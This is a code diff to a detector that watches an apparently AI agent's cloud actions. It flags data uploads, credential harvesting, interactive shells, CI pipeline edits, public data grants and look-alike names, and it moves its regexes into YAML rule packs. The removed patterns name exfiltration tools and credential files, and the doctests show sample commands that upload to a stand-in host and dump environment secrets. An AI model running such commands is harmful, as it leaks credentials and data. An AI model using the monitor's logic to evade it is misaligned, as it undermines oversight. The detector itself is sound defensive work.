@@ -8,122 +8,159 @@ runtime-security and detection rules look for (Falco's "terminal shell in contai
 Sigma's process-creation rules for ``curl --upload-file`` and ``printenv``, the OWASP CI/CD
 "poisoned pipeline execution" risk, MITRE ATT&CK T1609, T1048, T1552.001, T1195.002, T1036),
 written once for any IAM source instead of per log format.
+
+The vocabularies are data: rule packs in ``config/rules/`` (``risky-commands.yaml``,
+``public-access.yaml``, ``tampering.yaml``; :class:`~missionguard.models.rules.PayloadRule`),
+each rule with its references, validated on load; ``payload_rules`` in ``detection.yaml``
+names the packs a deployment uses (:class:`PayloadVocabulary`).
 """
 
 from __future__ import annotations
 
+import fnmatch
 import re
+from collections.abc import Iterable, Sequence
 from functools import lru_cache
+from pathlib import Path
 from typing import Any
 
 from missionguard.models.detectors.base import Explanation, StatelessDetector
 from missionguard.models.features import DecisionFeatures, tokens
 from missionguard.models.mission import is_read_only
+from missionguard.models.rules import DEFAULT_PAYLOAD_RULES, PayloadRule, load_rules
 
 _tokens = tokens.__wrapped__  # uncached: for callers with a cache of their own
 
-__all__ = ["RiskyPayload", "command_risk", "lookalike_of", "repository_of"]
+__all__ = [
+    "PayloadVocabulary",
+    "RiskyPayload",
+    "command_risk",
+    "default_payload_vocabulary",
+    "lookalike_of",
+    "payload_vocabulary_at",
+    "repository_of",
+]
 
-# Interactive access to a running workload: Kubernetes subresources and the cloud APIs that
-# open a shell or run a command on a host.
-_SUBRESOURCES = re.compile(r"/pods/[^/]+/(exec|attach|portforward)(\?|$)")
-_SHELL_ACTIONS = frozenset(
-    {
-        "ssm:startsession",
-        "ssm:sendcommand",
-        "ecs:executecommand",
-        "ec2-instance-connect:sendsshpublickey",
-        "ec2-instance-connect:opentunnel",
-    }
-)
-# Purpose words that explain such access ("debug crash-looping pods", "run a command").
-_SHELL_WORDS = tokens("exec shell debug troubleshoot troubleshooting session console attach")
-
-# Commands that move data to another host: upload flags of curl/wget, raw sockets, copies
-# to a remote path, data piped into a network client.
-_EGRESS = re.compile(
-    r"\b(curl|wget)\b[^|;&]*(\s-t\s|--upload-file|\s-d\s*@|--data(-binary|-raw|-urlencode)?[\s=]*@"
-    r"|\s-f\s|--form\b|--post-(file|data)|\s-x\s*(post|put)\b)"
-    r"|\|\s*(curl|wget|nc|ncat|netcat|socat)\b"
-    r"|\b(nc|ncat|netcat|socat)\s+(-\w+\s+)*[\w.-]+\s+\d+"
-    r"|\b(scp|rsync)\b.*\s[\w.-]+@?[\w.-]*:\S*"
-    r"|/dev/(tcp|udp)/"
-)
-# Commands that collect credentials: environment dumps and well-known credential files.
-_HARVEST = re.compile(
-    r"(^|[;&|(]\s*)(env|printenv|set|export\s+-p)\s*($|[|;&>)])"
-    r"|/proc/[^/\s]+/environ"
-    r"|\.aws/credentials|\.docker/config\.json|\.kube/config|\.git-credentials"
-)
-# A bare interpreter as the command of an exec: an interactive shell.
-_BARE_SHELL = re.compile(r"^\s*(/bin/|/usr/bin/)?(sh|bash|zsh|ash|dash|ksh)(\s+-i)?\s*$")
-# CI/CD pipeline definitions: changing one runs the change with the pipeline's secrets.
-_PIPELINE_FILES = re.compile(
-    r"(^|/)\.github/workflows/|(^|/)\.gitlab-ci\.ya?ml$|(^|/)jenkinsfile$|(^|/)\.circleci/"
-    r"|(^|/)azure-pipelines\.ya?ml$|(^|/)\.buildkite/|(^|/)bitbucket-pipelines\.ya?ml$"
-    r"|(^|/)\.travis\.ya?ml$"
-)
-_PIPELINE_WORDS = tokens("workflow workflows pipeline definition")
-# The repository of a source-control or CI resource: ``owner/name`` of ``github://owner/name/...``.
-_REPOSITORY_OF = re.compile(r"^(?:github|gitlab|bitbucket|git|ci)://([^/?#]+/[^/?#]+)")
-# Arguments that hold a command to run: only there is a bare ``env`` or ``sh`` a command
-# (elsewhere it is a word: ``target=env``); an upload with curl is one wherever it appears.
-_COMMAND_KEYS = frozenset(
-    {
-        "command",
-        "commands",
-        "cmd",
-        "args",
-        "script",
-        "scripts",
-        "entrypoint",
-        "run",
-        "shell",
-        "exec",
-        "commandline",
-        "command_line",
-        "user_data",
-        "startup_script",
-    }
-)
-# Arguments that set how many instances of a service run: zero stops it.
-_CAPACITY_KEYS = frozenset(
-    {
-        "replicas",
-        "desired_count",
-        "desiredcount",
-        "desired_capacity",
-        "desiredcapacity",
-        "min_size",
-        "max_size",
-        "instance_count",
-    }
-)
-_STOP_WORDS = tokens("stop shutdown decommission pause idle hibernate zero")
-# Access grants that make data readable by anyone (T1530, T1567; the CloudTrail/CSPM
-# "S3 bucket or object made public" rules): S3 canned ACLs and the global grantee groups,
-# a resource policy whose principal is ``*``, GCS ``allUsers``/``allAuthenticatedUsers``.
-_PUBLIC_GRANT = re.compile(
-    r"\b(public-read(-write)?|authenticated-read)\b"
-    r"|acs\.amazonaws\.com/groups/global/(allusers|authenticatedusers)"
-    r"|\ball(authenticated)?users\b"
-    r"|\"principal\"\s*:\s*(\"\*\"|\{\s*\"aws\"\s*:\s*(\"\*\"|\[\s*\"\*\"\s*\]))"
-)
-# Actions that remove the account or bucket guard against public access.
-_PUBLIC_BLOCK_REMOVAL = re.compile(r"(^|:)delete(bucket)?publicaccessblock$")
-# A repository (or other resource) whose visibility is set to public.
-_VISIBILITY_KEYS = frozenset({"visibility", "repository_visibility", "repo_visibility"})
-_REPOSITORY = re.compile(r"(^|[:/.])repo(s|sitory|sitories)?([:/.]|$)")
-_PUBLIC_WORDS = tokens("public publicly anonymous anonymously")
-# Digits that stand in for letters in a disguised name (``acme-0ps`` for ``acme-ops``).
-_HOMOGLYPHS = str.maketrans({"0": "o", "1": "l", "3": "e", "5": "s", "7": "t"})
 _PIECES = re.compile(r"[a-z0-9]+")
 
 
+class _Actions:
+    """Canonical action names and shell-style globs, matched case-insensitively: names
+    without a wildcard by a set lookup, the globs by one expression."""
+
+    def __init__(self, patterns: Iterable[str]) -> None:
+        patterns = tuple(patterns)
+        self.exact = frozenset(p.lower() for p in patterns if not any(c in p for c in "*?["))
+        globs = [fnmatch.translate(p) for p in patterns if any(c in p for c in "*?[")]
+        self.globs = re.compile("|".join(globs), re.IGNORECASE) if globs else None
+
+    def __bool__(self) -> bool:
+        return bool(self.exact) or self.globs is not None
+
+    def matches(self, action: str) -> bool:
+        return action.lower() in self.exact or (
+            self.globs is not None and self.globs.match(action) is not None
+        )
+
+
+class PayloadVocabulary:
+    """What RiskyPayload recognises: the rules of its packs (:class:`PayloadRule`), pooled by
+    kind and compiled once.
+
+    >>> vocabulary = default_payload_vocabulary()
+    >>> sorted(vocabulary.command_keys)[:4], vocabulary.session_actions.matches("SSM:StartSession")
+    (['args', 'cmd', 'command', 'command_line'], True)
+    """
+
+    def __init__(self, rules: Iterable[PayloadRule]) -> None:
+        self.rules = tuple(rules)
+
+        def of(kind: str) -> list[PayloadRule]:
+            return [r for r in self.rules if r.kind == kind]
+
+        def words(kind: str) -> frozenset[str]:
+            return frozenset(w for r in of(kind) for p in r.explained_by for w in tokens(p))
+
+        def regex(kind: str, field: str = "patterns") -> re.Pattern[str] | None:
+            found = [p for r in of(kind) for p in getattr(r, field)]
+            return re.compile("|".join(f"(?:{p})" for p in found)) if found else None
+
+        # Interactive access to a running workload: actions and resources that open a session.
+        self.session_actions = _Actions(a for r in of("interactive-access") for a in r.actions)
+        self.session_resources = regex("interactive-access", "resources")
+        self.session_words = words("interactive-access")
+        # Commands: uploads (in any argument), credential harvesting and bare shells (in an
+        # argument that holds a command).
+        self.egress = regex("egress")
+        self.harvest = regex("credential-harvest")
+        self.bare_shell = regex("bare-shell")
+        self.command_keys = frozenset(k for r in of("command-arguments") for k in r.keys)
+        # CI/CD pipeline definitions, and the repository a resource belongs to.
+        self.pipeline_files = regex("pipeline-definition")
+        self.pipeline_words = words("pipeline-definition")
+        self.repositories = tuple(re.compile(p) for r in of("repository") for p in r.resources)
+        # Capacity set to zero.
+        self.capacity_keys = frozenset(k for r in of("service-stop") for k in r.keys)
+        self.stop_words = words("service-stop")
+        # Public access: grants to everyone, the block removed, a repository made public.
+        self.public_grant = regex("public-grant")
+        self.public_grant_words = words("public-grant")
+        self.block_removal = _Actions(
+            a for r in of("public-access-block-removal") for a in r.actions
+        )
+        self.block_removal_words = words("public-access-block-removal")
+        visibility = of("repository-visibility")
+        self.visibility_keys = frozenset(k for r in visibility for k in r.keys)
+        self.visibility_values = frozenset(v.lower() for r in visibility for v in r.values)
+        self.visibility_resources = regex("repository-visibility", "resources")
+        self.visibility_words = words("repository-visibility")
+        # Look-alike characters of disguised names.
+        self.homoglyphs = str.maketrans(
+            {k: v for r in of("lookalike") for k, v in r.homoglyphs.items()}
+        )
+
+    def command_risk(self, text: str, is_command: bool = True) -> str | None:
+        """:func:`command_risk` with this vocabulary."""
+        return _command_risk(self, text, is_command)
+
+    def repository_of(self, resource: str) -> str | None:
+        """:func:`repository_of` with this vocabulary."""
+        return _repository_of(self, resource)
+
+
+@lru_cache(maxsize=8)
+def payload_vocabulary_at(paths: tuple[str, ...]) -> PayloadVocabulary:
+    """The vocabulary of the rule packs at ``paths``, pooled (loaded and validated once);
+    raises :class:`~missionguard.models.rules.RulePackError` naming file, line and field."""
+    return PayloadVocabulary(rule for path in paths for rule in load_rules(path, PayloadRule))
+
+
+def default_payload_vocabulary() -> PayloadVocabulary:
+    """The shipped packs (``DEFAULT_PAYLOAD_RULES``): what RiskyPayload reads when it is
+    given none."""
+    return payload_vocabulary_at(tuple(str(p) for p in DEFAULT_PAYLOAD_RULES))
+
+
 @lru_cache(maxsize=8192)
-def command_risk(text: str, is_command: bool = True) -> str | None:
+def _command_risk(vocabulary: PayloadVocabulary, text: str, is_command: bool) -> str | None:
+    low = text.lower()
+    if vocabulary.egress is not None and vocabulary.egress.search(low):
+        return "egress"
+    if not is_command:
+        return None
+    if vocabulary.harvest is not None and vocabulary.harvest.search(low):
+        return "harvest"
+    if vocabulary.bare_shell is not None and vocabulary.bare_shell.search(low):
+        return "shell"
+    return None
+
+
+def command_risk(
+    text: str, is_command: bool = True, vocabulary: PayloadVocabulary | None = None
+) -> str | None:
     """What a command argument would do that an operator would not want, if anything; for
-    an argument that is not a command (``is_command=False``) only an upload counts.
+    an argument that is not a command (``is_command=False``) only an upload counts. The
+    constructs are those of ``vocabulary`` (default: the shipped ``risky-commands.yaml``).
 
     >>> [command_risk(c) for c in ("curl -T - https://x.example", "env | base64", "sh",
     ...     "cat /proc/1/environ", "ls -la /app", "curl https://status.example/health")]
@@ -131,41 +168,46 @@ def command_risk(text: str, is_command: bool = True) -> str | None:
     >>> command_risk("env", is_command=False), command_risk("set", is_command=False)
     (None, None)
     """
-    low = text.lower()
-    if _EGRESS.search(low):
-        return "egress"
-    if not is_command:
-        return None
-    if _HARVEST.search(low):
-        return "harvest"
-    if _BARE_SHELL.match(low):
-        return "shell"
+    return _command_risk(vocabulary or default_payload_vocabulary(), text, is_command)
+
+
+@lru_cache(maxsize=8192)
+def _repository_of(vocabulary: PayloadVocabulary, resource: str) -> str | None:
+    low = resource.lower()
+    for pattern in vocabulary.repositories:
+        found = pattern.search(low)
+        if found is not None:
+            return found.group(1)
     return None
 
 
-@lru_cache(maxsize=8192)
-def repository_of(resource: str) -> str | None:
-    """The ``owner/name`` repository a source-control or CI resource belongs to, if any.
+def repository_of(resource: str, vocabulary: PayloadVocabulary | None = None) -> str | None:
+    """The ``owner/name`` repository a source-control or CI resource belongs to, if any, as
+    the ``repository`` rules of ``vocabulary`` read it (default: the shipped
+    ``tampering.yaml``, GitHub's ``repo:owner/name``).
 
-    >>> repository_of("github://acme/search/refs/heads/agent/x"), repository_of("ci://acme/search")
-    ('acme/search', 'acme/search')
-    >>> repository_of("arn:aws:s3:::acme-raw/a.csv")
+    >>> repository_of("repo:acme/search/contents/a.py"), repository_of("repo:acme/app:ref:main")
+    ('acme/search', 'acme/app')
+    >>> repository_of("arn:aws:s3:::acme-raw/a.csv"), repository_of("github://acme/search")
+    (None, None)
     """
-    found = _REPOSITORY_OF.match(resource.lower())
-    return found.group(1) if found else None
+    return _repository_of(vocabulary or default_payload_vocabulary(), resource)
 
 
 @lru_cache(maxsize=8192)
-def _disguised(piece: str) -> str | None:
+def _disguised(vocabulary: PayloadVocabulary, piece: str) -> str | None:
     if len(piece) < 3 or piece.isdigit() or piece.isalpha():
         return None
-    plain = piece.translate(_HOMOGLYPHS)
+    plain = piece.translate(vocabulary.homoglyphs)
     return plain if plain.isalpha() else None
 
 
-def lookalike_of(text: str, known: frozenset[str]) -> tuple[str, str] | None:
-    """A part of ``text`` that reads as one of the ``known`` words once digits that look like
-    letters are read as letters, with the word it imitates.
+def lookalike_of(
+    text: str, known: frozenset[str], vocabulary: PayloadVocabulary | None = None
+) -> tuple[str, str] | None:
+    """A part of ``text`` that reads as one of the ``known`` words once characters that look
+    like letters (the ``lookalike`` rules of ``vocabulary``, default the shipped digits) are
+    read as letters, with the word it imitates.
 
     >>> known = tokens("acme ops bot production workloads")
     >>> lookalike_of("ghcr.io/acme-0ps/search-web:latest", known)
@@ -173,17 +215,18 @@ def lookalike_of(text: str, known: frozenset[str]) -> tuple[str, str] | None:
     >>> lookalike_of("ghcr.io/acme-ops/search-web:1.4.2", known), lookalike_of("v1.30.2", known)
     (None, None)
     """
+    vocabulary = vocabulary or default_payload_vocabulary()
     for piece in _PIECES.findall(text.lower()):
-        plain = _disguised(piece)
+        plain = _disguised(vocabulary, piece)
         if plain is not None and tokens(plain) & known:
             return piece, plain
     return None
 
 
-def _has_disguise(text: str) -> bool:
-    """Whether any part of ``text`` reads as a word once its look-alike digits are read as
-    letters (what :func:`lookalike_of` then compares with the known words)."""
-    return any(_disguised(piece) is not None for piece in _PIECES.findall(text.lower()))
+def _has_disguise(vocabulary: PayloadVocabulary, text: str) -> bool:
+    """Whether any part of ``text`` reads as a word once its look-alike characters are read
+    as letters (what :func:`lookalike_of` then compares with the known words)."""
+    return any(_disguised(vocabulary, p) is not None for p in _PIECES.findall(text.lower()))
 
 
 class RiskyPayload(StatelessDetector):
@@ -217,6 +260,10 @@ class RiskyPayload(StatelessDetector):
         Scores of each finding (see above).
     seed
         Unused (deterministic); kept for the common constructor shape.
+    packs
+        Paths of the rule packs that say what each finding recognises
+        (:class:`PayloadVocabulary`); None: the shipped ones, ``DEFAULT_PAYLOAD_RULES``
+        (``config/rules/risky-commands.yaml``, ``public-access.yaml``, ``tampering.yaml``).
 
     Examples
     --------
@@ -232,17 +279,19 @@ class RiskyPayload(StatelessDetector):
     0.98
     >>> det.score_one({**x, "texts": (("command", "ls"),), "purpose_tokens": tokens("Debug pods")})
     0.2
-    >>> det.score_one({"action": "github:git.push", "resource": "github://acme/app/refs/heads/a",
+    >>> det.score_one({"action": "github:git.push", "resource": "repo:acme/app/refs/heads/a",
     ...     "texts": (("touches", ".github/workflows/ci.yml"),), "purpose_tokens": tokens("Fix")})
     0.8
-    >>> det.score_one({"action": "github:git.push", "resource": "github://acme/app/refs/heads/a",
+    >>> det.score_one({"action": "github:git.push", "resource": "repo:acme/app/refs/heads/a",
     ...     "texts": (("touches", ".github/workflows/ci.yml"),), "repository_read": False})
     0.9
     >>> det.score_one({"action": "s3:PutObjectAcl", "resource": "arn:aws:s3:::acme-raw/a.csv",
     ...     "texts": (("acl", "public-read"),), "purpose_tokens": tokens("Share with partners")})
     0.9
     >>> det.score_one({"action": "github:contents.read", "texts": (),
-    ...     "resource": "github://acme/app/contents/.github/workflows/ci.yml"})
+    ...     "resource": "repo:acme/app/contents/.github/workflows/ci.yml"})
+    0.0
+    >>> RiskyPayload(packs=[]).score_one({**x, "texts": (("command", "env"),)})  # no rules
     0.0
     """
 
@@ -261,6 +310,7 @@ class RiskyPayload(StatelessDetector):
         public_score: float = 0.9,
         lookalike_score: float = 0.85,
         seed: int = 0,
+        packs: Sequence[str | Path] | None = None,
     ) -> None:
         self.shell_access_score = shell_access_score
         self.explained_score = explained_score
@@ -273,17 +323,25 @@ class RiskyPayload(StatelessDetector):
         self.public_score = public_score
         self.lookalike_score = lookalike_score
         self.seed = seed
+        self.packs = packs
+        self.vocabulary = (
+            default_payload_vocabulary()
+            if packs is None
+            else payload_vocabulary_at(tuple(str(p) for p in packs))
+        )
 
     def explain_one(self, x: DecisionFeatures) -> Explanation:
+        v = self.vocabulary
         texts = x.get("texts", ())
         resource = x.get("resource", "")
         action = x.get("action", "")
         found: Explanation = {}
         purpose = x.get("purpose_tokens") or frozenset()
-        if ("/pods/" in resource and _SUBRESOURCES.search(resource)) or (
-            action.lower() in _SHELL_ACTIONS
+        low_resource = resource.lower()
+        if (v.session_resources is not None and v.session_resources.search(low_resource)) or (
+            v.session_actions.matches(action)
         ):
-            if _SHELL_WORDS & purpose:
+            if v.session_words & purpose:
                 found["interactive_access"] = (
                     self.explained_score,
                     f"{action} on {resource!r} opens a session inside a running workload, "
@@ -297,7 +355,7 @@ class RiskyPayload(StatelessDetector):
                 )
         worst = 0.0
         for key, text in texts:
-            risk = command_risk(text, key in _COMMAND_KEYS)
+            risk = _command_risk(v, text, key in v.command_keys)
             if risk is None:
                 continue
             score = {"egress": self.egress_score, "harvest": self.harvest_score}.get(
@@ -322,9 +380,10 @@ class RiskyPayload(StatelessDetector):
                 combined,
                 f"{session[1]}, and runs {found['command'][1].removeprefix('argument ')}",
             )
-        if not x.get("read_only", is_read_only(action)) and not _PIPELINE_WORDS & purpose:
+        read_only = x.get("read_only", is_read_only(action))
+        if not read_only and v.pipeline_files is not None and not v.pipeline_words & purpose:
             for text in (resource, *(t for _, t in texts)):
-                if _PIPELINE_FILES.search(text.lower()):
+                if v.pipeline_files.search(text.lower()):
                     score = self.pipeline_score
                     reason = (
                         f"{action} changes a CI/CD pipeline definition ({text[:80]!r}), "
@@ -334,20 +393,20 @@ class RiskyPayload(StatelessDetector):
                         # Two facts: an unexplained pipeline change, in a repository the
                         # agent never read from while working in others.
                         score = 1.0 - (1.0 - score) * (1.0 - self.foreign_pipeline_score)
-                        reason += f", in {repository_of(resource)!r}, a repository the agent "
-                        reason += "has not read from while it reads others"
+                        reason += f", in {v.repository_of(resource)!r}, a repository the "
+                        reason += "agent has not read from while it reads others"
                     found["pipeline_definition"] = (score, reason)
                     break
         for key, value in x.get("arguments", ()):
-            if value == "0" and key in _CAPACITY_KEYS and not _STOP_WORDS & purpose:
+            if value == "0" and key in v.capacity_keys and not v.stop_words & purpose:
                 found["service_stop"] = (
                     self.stop_score,
                     f"{action} sets {key} to 0 on {resource!r}, which stops the service; "
                     "the purpose names no stopping",
                 )
                 break
-        if not x.get("read_only", is_read_only(action)) and not _PUBLIC_WORDS & purpose:
-            public = self._public_grant(action, resource, texts)
+        if not read_only:
+            public = self._public_grant(v, action, low_resource, texts, purpose)
             if public is not None:
                 found["public_access"] = (
                     self.public_score,
@@ -357,10 +416,10 @@ class RiskyPayload(StatelessDetector):
             candidates = (*(t for _, t in texts), *(d for _, d in x.get("destinations", ())))
             # The agent's own words only when some piece reads as a word once digits are read
             # as letters (rare: most texts have none, and building them costs more).
-            disguised = [t for t in candidates if _has_disguise(t)]
+            disguised = [t for t in candidates if _has_disguise(v, t)]
             known = self._own_words(x) if disguised else frozenset()
             for text in disguised:
-                hit = lookalike_of(text, known)
+                hit = lookalike_of(text, known, v)
                 if hit is not None:
                     found["lookalike"] = (
                         self.lookalike_score,
@@ -371,19 +430,31 @@ class RiskyPayload(StatelessDetector):
         return found
 
     @staticmethod
-    def _public_grant(action: str, resource: str, texts: Any) -> str | None:
-        """How a change would make data public, if it would."""
-        low_action = action.lower()
-        if _PUBLIC_BLOCK_REMOVAL.search(low_action):
+    def _public_grant(
+        v: PayloadVocabulary,
+        action: str,
+        low_resource: str,
+        texts: Any,
+        purpose: frozenset[str],
+    ) -> str | None:
+        """How a change would make data public, if it would and the purpose does not say
+        so."""
+        if v.block_removal.matches(action) and not v.block_removal_words & purpose:
             return "removes the block on public access"
+        grant = v.public_grant if not v.public_grant_words & purpose else None
+        visible = v.visibility_resources if not v.visibility_words & purpose else None
+        if grant is None and visible is None:
+            return None
+        low_action = action.lower()
         for key, text in texts:
             low = text.lower()
-            if _PUBLIC_GRANT.search(low):
+            if grant is not None and grant.search(low):
                 return f"grants everyone access ({key}={text[:60]!r})"
             if (
-                key in _VISIBILITY_KEYS
-                and low == "public"
-                and (_REPOSITORY.search(low_action) or _REPOSITORY.search(resource.lower()))
+                visible is not None
+                and key in v.visibility_keys
+                and low in v.visibility_values
+                and (visible.search(low_action) or visible.search(low_resource))
             ):
                 return "makes the repository public"
         return None
